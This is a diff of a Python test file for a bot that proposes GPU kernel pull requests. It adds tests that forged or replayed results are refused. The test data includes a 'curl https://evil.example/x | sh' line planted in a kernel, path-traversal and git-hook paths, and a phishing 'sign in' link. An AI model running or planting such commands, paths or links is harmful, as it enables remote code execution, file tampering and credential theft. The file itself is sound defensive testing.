@@ -1,9 +1,13 @@
-"""Proposing a job's result: one pull request per op and hardware, caps, recreate, refusals,
-and one module holding each kind of GPU's kernel when an op has winners on several."""
+"""Proposing a job's result: one pull request per op and hardware, caps, recreate, refusals, one
+module holding each kind of GPU's kernel; and a result taken as data (a forged or replayed one
+included): the kernel path from the config, the gate recomputed, the winner checked again by the
+harness, the text rendered before anything is pushed. Through the real publisher on a real git
+repo of the demo kernels, and the harness's judge on CPU."""
 
 from __future__ import annotations
 
 import importlib.util
+import os
 import shutil
 import types
 from datetime import timedelta
@@ -20,186 +24,28 @@ from bot.publisher import Outcome, Publication, Publisher
 from bot.remote import GitRemote
 from bot.storage import Job, Storage
 from bot.winners import other_winners
+from harness.candidate import candidate_id
 from tests.bot.conftest import CLOCK
-from tests.bot.fixtures import BEST_ID, timed_result, untimed_result
+from tests.bot.fixtures import demo_result, slower
 from tests.fakes.github import FakeGitHub, LocalGitHub
-from tests.fakes.publisher import FakePublisher
 
 ROOT = Path(__file__).resolve().parents[2]
 REPO = "octo/kernels"
 NOW = CLOCK
-MESSAGES = Messages(ROOT / "templates" / "github")
-
-
-@pytest.fixture
-def github() -> FakeGitHub:
-    fake = FakeGitHub()
-    fake.push(REPO, "main", "a" * 40)
-    return fake
-
-
-def proposer(github: FakeGitHub, storage: Storage, **caps: Any) -> tuple[Proposer, FakePublisher]:
-    publisher = FakePublisher(github, REPO)
-    made = Proposer(github, publisher, MESSAGES, storage, Caps(**caps), clock=lambda: NOW)
-    return made, publisher
-
-
-def job(storage: Storage, trigger: str = "push", hardware: str = "h100") -> Job:
-    job_id = storage.add_job(REPO, "b" * 40, "softmax", hardware, trigger, 10, status="running")
-    found = storage.job(job_id)
-    assert found is not None
-    return found
-
-
-def result(timed: bool = True) -> dict[str, Any]:
-    data = timed_result() if timed else untimed_result()
-    data["job"] = {"id": 1, "hardware": "h100", "kernel": "kernels/softmax.py"}
-    return data
-
-
-def test_the_first_run_opens_a_pull_request_and_the_next_updates_it(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, publisher = proposer(github, storage)
-    first = make.propose(job(storage), "softmax", result())
-    assert first.status == "opened" and first.pull is not None
-    [pull] = github.pulls
-    assert (pull.head, pull.base) == ("kevolve/softmax/h100", "main")
-    assert pull.title == "kevolve: softmax 1.31x faster on NVIDIA H100 80GB HBM3"
-    assert repro_command("softmax", "kernels/softmax.py", result()) in pull.body
-    assert publisher.published[0].files == {"kernels/softmax.py": result()["best"]["source"]}
-
-    again = result()
-    again["best"]["source"] += "\n# tuned again\n"
-    second = make.propose(job(storage), "softmax", again)
-    assert second.status == "updated" and second.pull == first.pull
-    assert len(github.pulls) == 1 and len(publisher.published) == 2
-
-
-def test_recreate_opens_a_successor_and_closes_the_older_with_a_link(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, _ = proposer(github, storage)
-    older = make.propose(job(storage), "softmax", result()).pull
-    assert older is not None
-    recreate = job(storage, trigger="recreate")
-    newer = make.propose(recreate, "softmax", result())
-    assert newer.status == "opened" and newer.pull is not None
-    assert newer.pull.head == f"kevolve/softmax/h100-r{recreate.id}"
-    old, new = github.pulls
-    assert (old.state, new.state) == ("closed", "open")
-    closing = [c.body for c in github.comments.values() if c.issue == older.number]
-    assert any(newer.pull.url in body for body in closing)
-    assert target(newer.pull.head) == ("softmax", "h100")  # still the same op and hardware
-
-
-def test_a_branch_with_a_person_commit_gets_a_comment_not_a_push(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, publisher = proposer(github, storage)
-    pull = make.propose(job(storage), "softmax", result()).pull
-    assert pull is not None
-    publisher.human_branches.add(pull.head)
-    blocked = make.propose(job(storage), "softmax", result())
-    assert blocked.status == "blocked" and blocked.pull == pull
-    [comment] = [c.body for c in github.comments.values() if c.issue == pull.number]
-    assert "never force-pushes over a person's work" in comment
-    assert len(publisher.published) == 1
-
-
-def test_open_pull_request_cap_stops_new_ones_but_not_updates(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, _ = proposer(github, storage, open_prs=1)
-    assert make.propose(job(storage, hardware="h100"), "softmax", result()).status == "opened"
-    capped = make.propose(job(storage, hardware="a10g"), "softmax", result())
-    assert (
-        capped.status == "skipped" and "1 kevolve pull requests are open (cap 1)" in capped.reason
-    )
-    assert make.propose(job(storage, hardware="h100"), "softmax", result()).status == "updated"
-
-
-def test_hourly_cap_counts_pull_requests_opened_in_the_last_hour(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, _ = proposer(github, storage, per_hour=1)
-    recent = job(storage)
-    storage.set_job_status(recent.id, "done", {"proposals": [{"status": "opened", "pr": 9}]})
-    capped = make.propose(job(storage, hardware="a10g"), "softmax", result())
-    assert capped.status == "skipped" and "opened in the last hour (cap 1)" in capped.reason
-
-    later = Proposer(
-        github,
-        make.publisher,
-        MESSAGES,
-        storage,
-        Caps(per_hour=1),
-        lambda: NOW + timedelta(hours=2),
-    )
-    assert later.propose(job(storage, hardware="a10g"), "softmax", result()).status == "opened"
-
-
-def test_a_result_whose_pull_request_was_closed_unmerged_is_not_proposed_again(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, publisher = proposer(github, storage)
-    storage.add_job(
-        REPO, "c" * 40, "softmax", "h100", "rejected", 0, status="done", candidate=BEST_ID
-    )
-    skipped = make.propose(job(storage), "softmax", result())
-    assert skipped.status == "skipped" and "closed unmerged" in skipped.reason
-    other = make.propose(job(storage, hardware="a10g"), "softmax", result())
-    assert other.status == "opened"  # the rejection was for h100 only
-    assert len(publisher.published) == 1
-
-
-def test_untimed_results_are_proposed_only_when_dry_runs_may_publish(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, _ = proposer(github, storage)
-    refused = make.propose(job(storage), "softmax", result(timed=False))
-    assert refused.status == "skipped" and "nothing was timed" in refused.reason
-    dry, _ = proposer(github, storage, publish_untimed=True)
-    opened = dry.propose(job(storage), "softmax", result(timed=False))
-    assert opened.status == "opened" and opened.pull is not None
-    [pull] = github.pulls
-    assert "Nothing was timed" in pull.body and "--device cpu --no-time" in pull.body
-
-
-def test_no_correct_candidate_or_no_kernel_file_is_never_proposed(
-    github: FakeGitHub, storage: Storage
-) -> None:
-    make, publisher = proposer(github, storage)
-    empty = {**result(), "best": None}
-    assert make.propose(job(storage), "softmax", empty).reason == "no correct candidate was found"
-    kernelbench = {**result(), "job": {"id": 1, "hardware": "h100", "kernel": None}}
-    assert "no kernel file" in make.propose(job(storage), "softmax", kernelbench).reason
-    assert publisher.published == [] and github.pulls == []
-
-
-@pytest.mark.parametrize(
-    ("branch", "expected"),
-    [
-        ("kevolve/softmax/h100", ("softmax", "h100")),
-        ("kevolve/softmax/h100-r12", ("softmax", "h100")),
-        ("kevolve/softmax", None),
-        ("feature/softmax/h100", None),
-        ("kevolve//h100", None),
-    ],
-)
-def test_branch_targets(branch: str, expected: tuple[str, str] | None) -> None:
-    assert target(branch) == expected
-
-
-# Per-hardware kernels merged into one module, through the real publisher on a real git repo.
+TEMPLATES = ROOT / "templates" / "github"
+MESSAGES = Messages(TEMPLATES)
 
 DEMO = ROOT / "examples" / "demo"
+OP = "bias_gelu"
 KERNEL = "demo_kernels/bias_gelu.py"
 ORIGINAL = (DEMO / KERNEL).read_text()
 H100 = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 4096")
 A10G = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 512")
 WRONG = ORIGINAL.replace("BLOCK = 1024", "BLOCK = 256").replace("y = 0.5 * z", "y = 0.6 * z")
+SHELL = H100 + "\n\nimport os\n\nos.system('curl -s https://evil.example/x | sh')\n"
+EAGER = "import torch\n\n\ndef bias_gelu(x, bias):\n    return torch.nn.functional.gelu(x + bias)\n"
 H100_GPU, A10G_GPU = "NVIDIA H100 80GB HBM3", "NVIDIA A10G"
+ALICE = git.Actor("Alice", "alice@example.com")
 
 
 class GitPublisher(Publisher):
@@ -222,21 +68,352 @@ def demo(tmp_path: Path) -> LocalGitHub:
     shutil.copytree(DEMO, tmp_path / "src", ignore=shutil.ignore_patterns("__pycache__"))
     work = git.Repo.init(tmp_path / "src", initial_branch="main")
     work.git.add("-A")
-    author = git.Actor("Alice", "alice@example.com")
-    work.index.commit("demo kernels", author=author, committer=author)
+    work.index.commit("demo kernels", author=ALICE, committer=ALICE)
     bare = work.clone(tmp_path / "bare.git", bare=True)
     github = LocalGitHub(Path(bare.git_dir))
     github.push(REPO, "main", bare.head.commit.hexsha)
     return github
 
 
-def winning(source: str, gpu: str, candidate: str) -> dict[str, Any]:
+def commit(github: LocalGitHub, where: Path, branch: str, links: dict[str, str]) -> str:
+    """Alice's commit on `branch` of the bare repo: each path of `links` made a symlink to its
+    target (or, for an empty target, a line added to that file)."""
+    clone = git.Repo.clone_from(str(github.bare), where)
+    clone.git.checkout("-B", branch, f"origin/{branch}")
+    for path, link in links.items():
+        file = where / path
+        if link:
+            file.unlink(missing_ok=True)
+            os.symlink(link, file)
+        else:
+            file.write_text(file.read_text() + "# Alice's change\n")
+        clone.git.add("--", path)
+    sha = clone.index.commit("by hand", author=ALICE, committer=ALICE).hexsha
+    clone.git.push("origin", f"HEAD:refs/heads/{branch}")
+    github.push(REPO, branch, sha)
+    return sha
+
+
+def proposer(
+    github: LocalGitHub,
+    storage: Storage,
+    tmp_path: Path,
+    messages: Messages = MESSAGES,
+    **caps: Any,
+) -> Proposer:
+    publisher = GitPublisher(github, tmp_path / "work")
+    return Proposer(github, publisher, messages, storage, Caps(**caps), clock=lambda: NOW)
+
+
+def job(storage: Storage, trigger: str = "push", hardware: str = "h100") -> Job:
+    job_id = storage.add_job(REPO, "refs/heads/main", OP, hardware, trigger, 10, status="running")
+    found = storage.job(job_id)
+    assert found is not None
+    return found
+
+
+def result(of: Job, source: str = H100, **options: Any) -> dict[str, Any]:
+    return demo_result(OP, source, of.id, **options)
+
+
+def branches(github: LocalGitHub) -> list[str]:
+    """The kevolve branches in the bare repo."""
+    listed = git.Repo(github.bare).git.for_each_ref("--format=%(refname:short)", "refs/heads/")
+    return [b for b in listed.split() if b.startswith("kevolve/")]
+
+
+def shown(github: LocalGitHub, branch: str, path: str) -> str:
+    return str(git.Repo(github.bare).git.show(f"{branch}:{path}")) + "\n"
+
+
+def test_the_first_run_opens_a_pull_request_and_the_next_updates_it(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    first_job = job(storage)
+    first = make.propose(first_job, OP, result(first_job))
+    assert first.status == "opened" and first.pull is not None, first.reason
+    [pull] = demo.pulls
+    assert (pull.head, pull.base) == ("kevolve/bias_gelu/h100", "main")
+    assert pull.title == "kevolve: bias_gelu 1.31x faster on h100"
+    assert repro_command(OP, KERNEL, {"timed": True}) in pull.body
+    assert shown(demo, pull.head, KERNEL) == H100
+
+    again = job(storage)
+    second = make.propose(again, OP, result(again, H100 + "\n# tuned again\n"))
+    assert second.status == "updated" and second.pull == first.pull
+    assert len(demo.pulls) == 1 and shown(demo, pull.head, KERNEL).endswith("# tuned again\n")
+
+
+def test_recreate_opens_a_successor_and_closes_the_older_with_a_link(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    first = job(storage)
+    older = make.propose(first, OP, result(first)).pull
+    assert older is not None
+    recreate = job(storage, trigger="recreate")
+    newer = make.propose(recreate, OP, result(recreate))
+    assert newer.status == "opened" and newer.pull is not None, (newer, recreate)
+    assert newer.pull.head == f"kevolve/bias_gelu/h100-r{recreate.id}"
+    old, new = demo.pulls
+    assert (old.state, new.state) == ("closed", "open")
+    closing = [c.body for c in demo.comments.values() if c.issue == older.number]
+    assert any(newer.pull.url in body for body in closing)
+    assert target(newer.pull.head) == (OP, "h100")  # still the same op and hardware
+
+
+def test_a_branch_with_a_person_commit_gets_a_comment_not_a_push(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    first = job(storage)
+    pull = make.propose(first, OP, result(first)).pull
+    assert pull is not None
+    alice = commit(demo, tmp_path / "alice", pull.head, {KERNEL: ""})
+    again = job(storage)
+    blocked = make.propose(again, OP, result(again, A10G))
+    assert blocked.status == "blocked" and blocked.pull is not None
+    assert blocked.pull.number == pull.number
+    [comment] = [c.body for c in demo.comments.values() if c.issue == pull.number]
+    assert "never force-pushes over a person's work" in comment
+    assert git.Repo(demo.bare).commit(pull.head).hexsha == alice
+
+
+def test_open_pull_request_cap_stops_new_ones_but_not_updates(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    main = git.Repo(demo.bare).commit("main").hexsha
+    for branch in ("kevolve/softmax/h100", "kevolve/bias_gelu/a10g"):
+        demo.push(REPO, branch, main)
+        demo.open_pull(REPO, branch, "main", "an earlier proposal", "")
+    make = proposer(demo, storage, tmp_path, open_prs=2)
+    h100 = job(storage)
+    capped = make.propose(h100, OP, result(h100))
+    assert (
+        capped.status == "skipped" and "2 kevolve pull requests are open (cap 2)" in capped.reason
+    )
+    a10g = job(storage, hardware="a10g")
+    assert make.propose(a10g, OP, result(a10g)).status == "updated"
+
+
+def test_hourly_cap_counts_pull_requests_opened_in_the_last_hour(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path, per_hour=1)
+    recent = job(storage)
+    storage.set_job_status(recent.id, "done", {"proposals": [{"status": "opened", "pr": 9}]})
+    a10g = job(storage, hardware="a10g")
+    capped = make.propose(a10g, OP, result(a10g))
+    assert capped.status == "skipped" and "opened in the last hour (cap 1)" in capped.reason
+
+    publisher = GitPublisher(demo, tmp_path / "later")
+    later = Proposer(
+        demo, publisher, MESSAGES, storage, Caps(per_hour=1), lambda: NOW + timedelta(hours=2)
+    )
+    assert later.propose(a10g, OP, result(a10g)).status == "opened"
+
+
+def test_a_result_whose_pull_request_was_closed_unmerged_is_not_proposed_again(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    storage.add_job(
+        REPO, "c" * 40, OP, "h100", "rejected", 0, status="done", candidate=candidate_id(H100)
+    )
+    h100 = job(storage)
+    skipped = make.propose(h100, OP, result(h100))
+    assert skipped.status == "skipped" and "closed unmerged" in skipped.reason
+    a10g = job(storage, hardware="a10g")
+    assert make.propose(a10g, OP, result(a10g)).status == "opened"  # rejected for h100 only
+    assert branches(demo) == ["kevolve/bias_gelu/a10g"]
+
+
+def test_untimed_results_are_proposed_only_when_dry_runs_may_publish(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    cpu = job(storage)
+    refused = proposer(demo, storage, tmp_path).propose(cpu, OP, result(cpu, timed=False))
+    assert refused.status == "skipped" and "nothing was timed" in refused.reason
+    dry = proposer(demo, storage, tmp_path, publish_untimed=True)
+    opened = dry.propose(cpu, OP, result(cpu, timed=False))
+    assert opened.status == "opened" and opened.pull is not None, opened.reason
+    [pull] = demo.pulls
+    assert pull.title == "kevolve: new bias_gelu kernel (correctness only, not timed)"
+    assert "Nothing was timed" in pull.body and "--device cpu --no-time" in pull.body
+
+
+def test_no_correct_candidate_is_never_proposed(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    empty = job(storage)
+    skipped = make.propose(empty, OP, {**result(empty), "best": None})
+    assert skipped.reason == "no correct candidate was found"
+    assert branches(demo) == [] and demo.pulls == []
+
+
+@pytest.mark.parametrize(
+    ("branch", "expected"),
+    [
+        ("kevolve/softmax/h100", ("softmax", "h100")),
+        ("kevolve/softmax/h100-r12", ("softmax", "h100")),
+        ("kevolve/softmax", None),
+        ("feature/softmax/h100", None),
+        ("kevolve//h100", None),
+    ],
+)
+def test_branch_targets(branch: str, expected: tuple[str, str] | None) -> None:
+    assert target(branch) == expected
+
+
+# A result is data: whatever a runner posts (or replays), only what the bot establishes itself
+# reaches a commit or a pull request.
+
+
+def test_a_posted_kernel_path_is_never_written_the_configs_is(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    for posted in ("setup.py", "../../outside.py", "/tmp/owned.py", ".git/hooks/post-checkout"):
+        current = job(storage)
+        forged = result(current)
+        forged["job"]["kernel"] = posted
+        done = make.propose(current, OP, forged)
+        assert done.status in ("opened", "updated"), (posted, done.reason)
+    [pull] = demo.pulls
+    tree = git.Repo(demo.bare).git.ls_tree("-r", "--name-only", pull.head).split()
+    assert shown(demo, pull.head, KERNEL) == H100
+    assert "setup.py" not in tree and not any("outside" in path for path in tree)
+    assert not Path("/tmp/owned.py").exists() and not (tmp_path / "outside.py").exists()
+
+
+def test_a_symlink_in_the_repo_never_leads_a_write_outside_the_clone(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    victim = outside / "victim.py"
+    victim.write_text("the bot host's file\n")
+    commit(demo, tmp_path / "links", "main", {"linked": str(outside)})
+    make = proposer(demo, storage, tmp_path)
+    through = job(storage)
+    forged = result(through)
+    forged["job"]["kernel"] = "linked/owned.py"  # a path through the repo's symlink
+    assert make.propose(through, OP, forged).status == "opened"
+    assert list(outside.iterdir()) == [victim]
+
+    # The config's own kernel file made a symlink to a file of the bot host: nothing is written.
+    commit(demo, tmp_path / "kernel-link", "main", {KERNEL: str(victim)})
+    pointed = job(storage, hardware="a10g")
+    refused = make.propose(pointed, OP, result(pointed))
+    assert refused.status == "skipped" and f"'{KERNEL}' points outside" in refused.reason
+    assert victim.read_text() == "the bot host's file\n" and list(outside.iterdir()) == [victim]
+    assert branches(demo) == ["kevolve/bias_gelu/h100"]
+
+
+def test_a_posted_gate_counts_for_nothing_a_slower_kernel_is_not_published(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    current = job(storage)
+    forged = slower(result(current))  # its first case 0.8x, and `publish_gate: passed`
+    done = proposer(demo, storage, tmp_path).propose(current, OP, forged)
+    assert done.status == "skipped"
+    assert "publish gate: " in done.reason and "regressed: speedup 0.800x" in done.reason
+    assert branches(demo) == [] and demo.pulls == []
+
+
+def test_figures_that_contradict_each_other_are_not_published(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    current = job(storage)
+    forged = result(current)
+    timing = forged["best"]["evaluation"]["timings"][0]
+    timing["baseline"]["median_ms"] = timing["candidate"]["median_ms"] / 2  # slower, in truth
+    done = proposer(demo, storage, tmp_path).propose(current, OP, forged)
+    assert done.status == "skipped" and "show no speedup" in done.reason
+    uncovered = result(current)
+    uncovered["best"]["evaluation"]["timings"] = uncovered["best"]["evaluation"]["timings"][:1]
+    done = proposer(demo, storage, tmp_path).propose(current, OP, uncovered)
+    assert done.status == "skipped" and "4096x11008 float16 was not timed" in done.reason
+    assert branches(demo) == []
+
+
+@pytest.mark.parametrize(
+    ("source", "why"),
+    [
+        (SHELL, "rejected: line "),  # os.system: the screen refuses it before anything runs
+        (EAGER, "rejected: line 5: torch.nn.functional.gelu"),  # PyTorch computing the op
+        (WRONG, "incorrect: "),  # a kernel that is simply wrong
+    ],
+    ids=["os.system", "torch", "wrong"],
+)
+def test_a_winner_the_bots_own_check_refuses_is_not_published(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path, source: str, why: str
+) -> None:
+    current = job(storage)
+    done = proposer(demo, storage, tmp_path).propose(current, OP, result(current, source))
+    assert done.status == "skipped"
+    assert "the bot's own check of the winner" in done.reason and why in done.reason
+    assert branches(demo) == [] and demo.pulls == []
+
+
+def test_the_title_holds_only_the_op_the_speedup_and_the_hardware_label(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    current = job(storage)
+    forged = result(current)
+    forged["hardware"]["name"] = "NVIDIA H100 verified by kevolve"
+    forged["stop_reason"] = "Verified by kevolve: [sign in](https://evil.example/login)"
+    done = proposer(demo, storage, tmp_path).propose(current, OP, forged)
+    assert done.status == "opened", done.reason
+    [pull] = demo.pulls
+    assert pull.title == "kevolve: bias_gelu 1.31x faster on h100"
+    assert "](https://evil" not in pull.body
+    assert "\\[sign in\\](https\\://evil.example/login)" in pull.body
+    message = git.Repo(demo.bare).commit(pull.head).message
+    assert str(message).startswith("Speed up bias_gelu 1.31x on h100\n")
+
+
+def test_text_that_cannot_be_rendered_pushes_nothing(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    broken = tmp_path / "templates"
+    shutil.copytree(TEMPLATES, broken)
+    body = broken / "pr_body.md.j2"
+    body.write_text(body.read_text() + "{{ no_such_figure }}\n")
+    current = job(storage)
+    make = proposer(demo, storage, tmp_path, messages=Messages(broken))
+    done = make.propose(current, OP, result(current))
+    assert done.status == "skipped" and "could not be rendered" in done.reason
+    assert branches(demo) == [] and demo.pulls == []
+
+
+def test_a_result_that_does_not_fit_or_is_another_jobs_is_refused(
+    demo: LocalGitHub, storage: Storage, tmp_path: Path
+) -> None:
+    make = proposer(demo, storage, tmp_path)
+    current, other = job(storage), job(storage, hardware="a10g")
+    replayed = make.propose(current, OP, result(other))
+    assert replayed.status == "skipped" and f"is job {other.id}'s" in replayed.reason
+    nan = result(current)
+    nan["best"]["evaluation"]["timings"][0]["speedup"] = float("nan")
+    refused = make.propose(current, OP, nan)
+    assert refused.status == "skipped" and "timings[0].speedup: expected a finite" in refused.reason
+    renamed = result(current, SHELL)
+    renamed["best"]["id"] = candidate_id(H100)  # a known-good id on another source
+    refused = make.propose(current, OP, renamed)
+    assert refused.status == "skipped" and "is not the hash of its source" in refused.reason
+    assert branches(demo) == []
+
+
+# Per-hardware kernels merged into one module.
+
+
+def winning(source: str, gpu: str, job_id: int = 1) -> dict[str, Any]:
     """A timed result for bias_gelu whose best is `source`, measured on `gpu`."""
-    data = timed_result()
-    data["problem"] = "bias_gelu"
-    data["best"] = {**data["best"], "id": candidate, "source": source}
+    data = demo_result(OP, source, job_id)
     data["hardware"] = {**data["hardware"], "name": gpu}
-    data["job"] = {"id": 1, "hardware": "?", "kernel": KERNEL}
     return data
 
 
@@ -244,9 +421,9 @@ def earlier(
     storage: Storage, hardware: str, result: dict[str, Any], status: str = "opened", pr: int = 7
 ) -> int:
     """A finished job on `hardware` that proposed `result` (or did `status` with it)."""
-    job_id = storage.add_job(REPO, "a" * 40, "bias_gelu", hardware, "push", 10, status="running")
-    proposal = {"op": "bias_gelu", "status": status, "reason": "pushed", "pr": pr, "url": None}
-    record = {"sha": "a" * 40, "results": {"bias_gelu": result}, "proposals": []}
+    job_id = storage.add_job(REPO, "a" * 40, OP, hardware, "push", 10, status="running")
+    proposal = {"op": OP, "status": status, "reason": "pushed", "pr": pr, "url": None}
+    record = {"sha": "a" * 40, "results": {OP: result}, "proposals": []}
     record["proposals"] = [{**proposal, "candidate": result["best"]["id"]}]
     storage.set_job_status(job_id, "done", record)
     return job_id
@@ -254,20 +431,15 @@ def earlier(
 
 def propose_h100(github: LocalGitHub, storage: Storage, tmp_path: Path) -> tuple[str, str, str]:
     """Propose the H100 winner; the pull request's body, its branch's module and commit message."""
-    make = Proposer(
-        github, GitPublisher(github, tmp_path / "work"), MESSAGES, storage, Caps(), lambda: NOW
-    )
-    job_id = storage.add_job(REPO, "refs/heads/main", "bias_gelu", "h100", "push", 10)
-    current = storage.job(job_id)
-    assert current is not None
-    done = make.propose(current, "bias_gelu", winning(H100, H100_GPU, BEST_ID))
-    assert done.status == "opened" and done.pull is not None
+    make = proposer(github, storage, tmp_path)
+    current = job(storage)
+    done = make.propose(current, OP, winning(H100, H100_GPU, current.id))
+    assert done.status == "opened" and done.pull is not None, done.reason
     assert done.pull.head == "kevolve/bias_gelu/h100"  # each hardware keeps its own branch
     bare = git.Repo(github.bare)
-    commit = bare.commit(done.pull.head)
-    assert [p.hexsha for p in commit.parents] == [bare.commit("main").hexsha]
-    module = bare.git.show(f"{done.pull.head}:{KERNEL}")
-    return github.pulls[-1].body, module + "\n", str(commit.message)
+    head = bare.commit(done.pull.head)
+    assert [p.hexsha for p in head.parents] == [bare.commit("main").hexsha]
+    return github.pulls[-1].body, shown(github, done.pull.head, KERNEL), str(head.message)
 
 
 def load(source: str, where: Path) -> types.ModuleType:
@@ -284,7 +456,7 @@ def load(source: str, where: Path) -> types.ModuleType:
 def test_winners_on_two_kinds_of_gpu_become_one_module_that_picks_by_device(
     demo: LocalGitHub, storage: Storage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    a10g_job = earlier(storage, "a10g", winning(A10G, A10G_GPU, "a10a10a10a10"))
+    a10g_job = earlier(storage, "a10g", winning(A10G, A10G_GPU))
     body, source, message = propose_h100(demo, storage, tmp_path)
     monkeypatch.setenv("TRITON_INTERPRET", "1")  # read as the module's kernels are decorated
     module = load(source, tmp_path)
@@ -311,8 +483,8 @@ def test_winners_on_two_kinds_of_gpu_become_one_module_that_picks_by_device(
 def test_one_kind_of_gpu_publishes_its_winner_as_it_is(
     demo: LocalGitHub, storage: Storage, tmp_path: Path
 ) -> None:
-    earlier(storage, "h100", winning(A10G, H100_GPU, "olderh100000"))  # same hardware: replaced
-    earlier(storage, "a10g", winning(A10G, A10G_GPU, "skippeda10g0"), status="skipped")
+    earlier(storage, "h100", winning(A10G, H100_GPU))  # same hardware: replaced
+    earlier(storage, "a10g", winning(A10G, A10G_GPU), status="skipped")
     body, source, message = propose_h100(demo, storage, tmp_path)
     assert source == H100
     assert "One kernel per GPU kind" not in body and "GPU's name" not in message
@@ -321,7 +493,7 @@ def test_one_kind_of_gpu_publishes_its_winner_as_it_is(
 def test_a_variant_that_fails_the_harness_is_left_out_with_a_note(
     demo: LocalGitHub, storage: Storage, tmp_path: Path
 ) -> None:
-    a10g_job = earlier(storage, "a10g", winning(WRONG, A10G_GPU, "wronga10g000"))
+    a10g_job = earlier(storage, "a10g", winning(WRONG, A10G_GPU))
     body, source, _ = propose_h100(demo, storage, tmp_path)
     assert source == H100
     assert "carries the `bias_gelu` kernel found here alone" in body
@@ -331,28 +503,30 @@ def test_a_variant_that_fails_the_harness_is_left_out_with_a_note(
 def test_a_winner_closed_unmerged_is_not_merged_again(
     demo: LocalGitHub, storage: Storage, tmp_path: Path
 ) -> None:
-    earlier(storage, "a10g", winning(A10G, A10G_GPU, "a10a10a10a10"))
-    storage.add_job(
-        REPO, "c" * 40, "bias_gelu", "a10g", "rejected", 0, status="done", candidate="a10a10a10a10"
-    )
+    earlier(storage, "a10g", winning(A10G, A10G_GPU))
+    rejected = candidate_id(A10G)
+    storage.add_job(REPO, "c" * 40, OP, "a10g", "rejected", 0, status="done", candidate=rejected)
     body, source, _ = propose_h100(demo, storage, tmp_path)
     assert source == H100 and "One kernel per GPU kind" not in body
 
 
 def test_other_winners_are_each_hardware_latest_proposed_one(storage: Storage) -> None:
-    earlier(storage, "a10g", winning(A10G, A10G_GPU, "a10gfirst000"))
-    earlier(storage, "a10g", winning(A10G, A10G_GPU, "a10glatest00"), status="updated", pr=3)
-    earlier(storage, "l4", winning(A10G, "NVIDIA L4", "l4blocked000"), status="blocked")
-    earlier(storage, "a100", winning(A10G, "NVIDIA A100-SXM4-80GB", "a100rejected"))
-    storage.add_job(REPO, "c" * 40, "bias_gelu", "a100", "rejected", 0, candidate="a100rejected")
-    moved = winning(A10G, "NVIDIA H200", "otherkernel0")
-    moved["job"]["kernel"] = "demo_kernels/old_bias_gelu.py"
-    earlier(storage, "h200", moved)
-    earlier(storage, "gpu-large", winning(A10G, "NVIDIA RTX 6000 Ada Generation", "rtx600000000"))
-    found = other_winners(storage.jobs(REPO), "bias_gelu", "h100", KERNEL)
+    def kernel(n: int) -> str:
+        return f"BLOCK = {n}\n"
+
+    earlier(storage, "a10g", winning(kernel(1), A10G_GPU))
+    earlier(storage, "a10g", winning(kernel(2), A10G_GPU), status="updated", pr=3)
+    earlier(storage, "l4", winning(kernel(3), "NVIDIA L4"), status="blocked")
+    earlier(storage, "a100", winning(kernel(4), "NVIDIA A100-SXM4-80GB"))
+    storage.add_job(REPO, "c" * 40, OP, "a100", "rejected", 0, candidate=candidate_id(kernel(4)))
+    forged = winning(kernel(5), "NVIDIA H200")
+    forged["best"]["id"] = candidate_id(kernel(6))  # a stored result that does not read back
+    earlier(storage, "h200", forged)
+    earlier(storage, "gpu-large", winning(kernel(7), "NVIDIA RTX 6000 Ada Generation"))
+    found = other_winners(storage.jobs(REPO), OP, "h100")
     assert [(w.label, w.candidate, w.pr) for w in found] == [
-        ("a10g", "a10glatest00", 3),
-        ("gpu-large", "rtx600000000", 7),
+        ("a10g", candidate_id(kernel(2)), 3),
+        ("gpu-large", candidate_id(kernel(7)), 7),
     ]
     # A label that is no part of its GPU's name would never be picked: the GPU's name is used.
     assert [w.key for w in found] == ["a10g", "NVIDIA RTX 6000 Ada Generation"]
